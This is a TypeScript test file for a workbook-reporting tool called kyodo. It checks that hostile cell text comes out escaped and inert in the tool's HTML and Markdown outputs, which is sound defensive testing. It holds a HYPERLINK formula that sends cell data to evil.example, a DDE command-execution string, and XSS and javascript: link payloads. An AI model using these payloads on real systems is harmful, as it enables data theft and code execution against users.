import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { assertBuilt, examples, kyodo } from './kyodo.js';

// What a hostile (or careless) cell may hold: formulas a spreadsheet would run, markup a browser
// would run, Markdown a renderer would turn into links and images. Each goes into the Toride
// example workbook (written by SheetJS here, not by kyodo) and comes out in every output.
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"開く")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];
const MARKUP = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
];
const MARKDOWN = [
  '[開く](javascript:alert(1))',
  '![画像](https://evil.example/track.png)',
  'https://evil.example/phish',
  'www.evil.example',
  'someone@evil.example',
  '**太字** _斜体_ ~~取消~~ `code`',
  '<https://evil.example/auto>',
];
const HOSTILE = [...FORMULAS, ...MARKUP, ...MARKDOWN];

let dir: string;
let workbook: string;
let browser: Browser;

/** The Toride example with hostile text in project names, partners, forms and comments. */
function hostileWorkbook(): string {
  const book = XLSX.read(readFileSync(`${examples}toride.xlsx`));
  const put = (sheet: string, cell: string, value: string) => {
    const ws = book.Sheets[sheet];
    if (ws === undefined) throw new Error(`no sheet ${sheet}`);
    ws[cell] = { t: 's', v: value };
    // Cells outside the sheet's recorded range are not read: widen it.
    const range = XLSX.utils.decode_range(ws['!ref'] ?? 'A1');
    const at = XLSX.utils.decode_cell(cell);
    range.e.r = Math.max(range.e.r, at.r);
    range.e.c = Math.max(range.e.c, at.c);
    ws['!ref'] = XLSX.utils.encode_range(range);
  };
  // 市民協働事業一覧: header on row 4, data from row 5. The form column (E) is echoed in the
  // reports (each value is not a form of Toride), the project names (A) on the summary.
  HOSTILE.forEach((text, i) => {
    put('市民協働事業一覧', `E${5 + i}`, text);
    put('市民協働事業一覧', `A${5 + i}`, `${text}（事業${i + 1}）`);
  });
  // 協働事業評価: project names and comments (A, I) from row 5.
  HOSTILE.slice(0, 8).forEach((text, i) => {
    put('協働事業評価', `A${5 + i}`, text);
    put('協働事業評価', `I${5 + i}`, text);
  });
  const path = join(dir, 'hostile.xlsx');
  writeFileSync(path, XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }));
  return path;
}

beforeAll(async () => {
  assertBuilt();
  dir = mkdtempSync(join(tmpdir(), 'kyodo-inject-'));
  workbook = hostileWorkbook();
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
});

afterAll(async () => {
  await browser?.close();
});

const args = ['--profile', 'toride', '--today', '2024-10-01'];

/**
 * Open a page in Chromium from its HTML, every request but the page refused; a dialog, a
 * request, a CSP violation or a script flag is recorded. Returns what happened and a screenshot.
 */
async function open(html: string) {
  const page = await browser.newPage({ viewport: { width: 1000, height: 1400 }, locale: 'ja-JP' });
  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.route('**/*', (route) => {
    if (route.request().url() === 'https://report.kyodo.test/') {
      return route.fulfill({ body: html, contentType: 'text/html; charset=utf-8' });
    }
    requests.push(route.request().url());
    return route.abort();
  });
  await page.addInitScript(() => {
    (window as unknown as { __violations: string[] }).__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __violations: string[] }).__violations.push(
        `${e.violatedDirective} ${e.blockedURI}`,
      );
    });
  });
  await page.goto('https://report.kyodo.test/');
  await page.waitForLoadState('load');
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: number }).__pwned,
    scripts: document.querySelectorAll('script').length,
    elements: document.querySelectorAll('img, iframe, svg[onload], a[href], object, embed, form').length,
    csp:
      document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null,
    text: document.body.textContent ?? '',
  }));
  const shot = await page.screenshot({ fullPage: true });
  await page.close();
  return { dialogs, requests, shot, ...state };
}

describe('text from cells cannot be turned against the user in any output', () => {
  it('validate --format html: every text escaped, a CSP that forbids scripts, no dialog, no script ran, and it renders the same as without the CSP', async () => {
    const r = kyodo(['validate', workbook, ...args, '--format', 'html']);
    expect(r.stderr).toBe('');
    const page = await open(r.stdout);
    expect(page.dialogs).toEqual([]);
    expect(page.pwned).toBeUndefined();
    expect(page.scripts).toBe(0);
    expect(page.elements).toBe(0);
    expect(page.requests).toEqual([]);
    expect(page.csp).toMatch(/default-src 'none'/);
    expect(page.csp).not.toMatch(/script-src/);
    for (const text of MARKUP) expect(page.text).toContain(text);
    // The same page without its CSP renders the same pixels: the policy takes nothing it uses.
    const bare = await open(r.stdout.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    expect(bare.csp).toBeNull();
    expect(Buffer.compare(bare.shot, page.shot)).toBe(0);
  });

  it('report --format html (the publication summary): the same', async () => {
    const out = join(dir, 'summary.html');
    const r = kyodo(['report', workbook, ...args, '--out', out]);
    expect(r.code).toBe(0);
    const html = readFileSync(out, 'utf8');
    const page = await open(html);
    expect(page.dialogs).toEqual([]);
    expect(page.pwned).toBeUndefined();
    expect(page.scripts).toBe(0);
    expect(page.elements).toBe(0);
    expect(page.requests).toEqual([]);
    expect(page.csp).toMatch(/default-src 'none'/);
    expect(page.text).toContain(MARKUP[0]);
    const bare = await open(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    expect(Buffer.compare(bare.shot, page.shot)).toBe(0);
  });

  /** Markdown rendered by markdown-it with raw HTML and linkify on: what a lenient renderer would make of it. */
  const md = new MarkdownIt({ html: true, linkify: true });
  function renderMarkdown(text: string): string {
    return md.render(text);
  }

  it('validate --format md: no link, image, raw HTML or emphasis from a cell; formulas quote-prefixed', () => {
    const r = kyodo(['validate', workbook, ...args, '--format', 'md']);
    expect(r.stderr).toBe('');
    const html = renderMarkdown(r.stdout);
    expect(html).not.toMatch(/<(a|img|script|iframe|svg|strong|em|del|s|code)[\s>]/);
    expect(html).not.toMatch(/<[a-z]+[^>]*\s(href|src|on[a-z]+)=/);
    // Each text comes back literally (HTML-escaped by the renderer), not as markup.
    for (const text of [...MARKUP, ...MARKDOWN]) expect(html).toContain(md.utils.escapeHtml(text));
    // Values as spreadsheet software would read them are neutralised as on the results sheet.
    expect(r.stdout).toContain("'=HYPERLINK");
    expect(r.stdout).toContain("'\\@SUM");
  });

  it('report --format md: no link, image, raw HTML or emphasis from a cell', () => {
    const r = kyodo(['report', workbook, ...args, '--format', 'md']);
    expect(r.code).toBe(0);
    const html = renderMarkdown(r.stdout);
    // The summary's own markup (its English title in italics, its totals in bold) aside, nothing a cell made.
    expect(html).not.toMatch(/<(a|img|script|iframe|svg|del|s|code)[\s>]/);
    expect(html).not.toMatch(/<[a-z]+[^>]*\s(href|src|on[a-z]+)=/);
    for (const text of MARKUP.slice(0, 2)) expect(html).toContain(md.utils.escapeHtml(text));
  });
});
